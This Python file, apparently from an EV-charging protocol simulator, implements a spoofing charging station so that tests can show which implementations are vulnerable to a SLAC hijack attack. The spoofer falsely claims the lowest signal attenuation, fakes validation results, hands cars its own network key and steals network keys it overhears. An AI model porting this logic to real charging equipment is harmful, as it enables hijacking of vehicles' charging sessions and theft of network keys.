"""A station that is none: it answers every car, claims to be nearest, and listens to the keys of the others.

This is what CVE-2025-12357 describes (ICSA-25-303-01). It is here so that tests can show who falls for it.
"""

from collections.abc import Callable

from pilotwire.ports import LinkOutput, LinkStep, Pilot, Transmit
from pilotwire.sim.medium.groups import GROUPS
from pilotwire.wire import homeplug
from pilotwire.wire.errors import FrameError
from pilotwire.wire.homeplug import Mme, MmeFrame, modem, slac
from pilotwire.wire.homeplug.vendor import LOCAL_MODEM

CLAIMED_DB = 1
"""Closer than any cable; plain 0 is what broken modems report, and cars know that."""

READY, SUCCESS, NOT_REQUIRED = 1, 2, 4  # of CM_VALIDATE.CNF


class Spoofer:
    """One side of a link, as its own engine; see `ports.DataLink`.

    It has no pilot wire to any car, so in a validation it can only guess `toggles`, or say that none is required
    (None). `steals` makes it enter the network of each key that it overhears.
    """

    def __init__(
        self, mac: bytes, entropy: Callable[[int], bytes], *, toggles: int | None = 3, steals: bool = False
    ) -> None:
        self.mac, self.toggles, self.steals = mac, toggles, steals
        self.victims: list[bytes] = []  # cars that asked it for a key
        self.keys: list[bytes] = []  # overheard, of others
        self._nmk = entropy(16)
        self._counts: dict[bytes, float] = {}  # when to give a validation's result, by car
        self._out: list[LinkOutput] = []

    def plug(self, now: float) -> None:
        """Nobody is ever plugged in here."""

    def unplug(self, now: float) -> None:
        """Nobody is ever plugged in here."""

    def tell(self, pilot: Pilot, now: float) -> None:
        """There is no pilot."""

    def carrier(self, up: bool, now: float) -> None:
        """It does not care."""

    def receive(self, frame: bytes, now: float) -> None:
        """Lie, or listen."""
        try:
            heard = homeplug.decode_frame(frame)
        except FrameError:
            return
        match heard.mme:
            case slac.CM_SLAC_MATCH_CNF() if heard.destination != self.mac:
                self._overhear(heard.mme)
            case slac.CM_SLAC_PARM_REQ():
                self._say(heard.source, slac.CM_SLAC_PARM_CNF(forwarding_sta=heard.source, run_id=heard.mme.run_id))
            case slac.CM_MNBC_SOUND_IND(count=0):
                self._claim(heard.source, heard.mme.run_id)
            case slac.CM_VALIDATE_REQ() if heard.destination == self.mac:
                self._validate(heard.source, heard.mme, now)
            case slac.CM_SLAC_MATCH_REQ() if heard.destination == self.mac:
                self._match(heard.mme)

    def next_deadline(self) -> float | None:
        """See `ports.DataLink`."""
        return min(self._counts.values(), default=None)

    def handle_timeout(self, now: float) -> None:
        """Give the results that are due."""
        for car in [car for car, due in self._counts.items() if due <= now]:
            del self._counts[car]
            self._say(car, slac.CM_VALIDATE_CNF(toggle_num=self.toggles or 0, result=SUCCESS))

    def take(self) -> list[LinkOutput]:
        """See `ports.DataLink`."""
        taken, self._out = self._out, []
        return taken

    def _claim(self, car: bytes, run_id: bytes) -> None:
        groups = bytes((CLAIMED_DB,)) * GROUPS
        report = slac.CM_ATTEN_CHAR_IND(source_address=car, run_id=run_id, num_sounds=10, attenuations=groups)
        self._say(car, report)

    def _validate(self, car: bytes, asked: slac.CM_VALIDATE_REQ, now: float) -> None:
        if self.toggles is None:
            self._say(car, slac.CM_VALIDATE_CNF(result=NOT_REQUIRED))
        elif asked.timer == 0:
            self._say(car, slac.CM_VALIDATE_CNF(result=READY))
        else:
            self._counts[car] = now + (asked.timer + 1) * 0.1

    def _match(self, asked: slac.CM_SLAC_MATCH_REQ) -> None:
        self.victims.append(asked.pev_mac)
        self._out.append(LinkStep("matched", asked.pev_mac.hex(":")))
        nid = homeplug.nid_from_nmk(self._nmk)
        self._enter(nid, self._nmk)
        answer = slac.CM_SLAC_MATCH_CNF(
            pev_mac=asked.pev_mac, evse_mac=self.mac, run_id=asked.run_id, nid=nid, nmk=self._nmk
        )
        self._say(asked.pev_mac, answer)

    def _overhear(self, answer: slac.CM_SLAC_MATCH_CNF) -> None:
        self.keys.append(answer.nmk)
        if self.steals:
            self._enter(answer.nid, answer.nmk)

    def _enter(self, nid: bytes, nmk: bytes) -> None:
        self._say(LOCAL_MODEM, modem.CM_SET_KEY_REQ(nid=nid, new_key=nmk))

    def _say(self, to: bytes, mme: Mme) -> None:
        self._out.append(Transmit(homeplug.encode_frame(MmeFrame(destination=to, source=self.mac, mme=mme))))
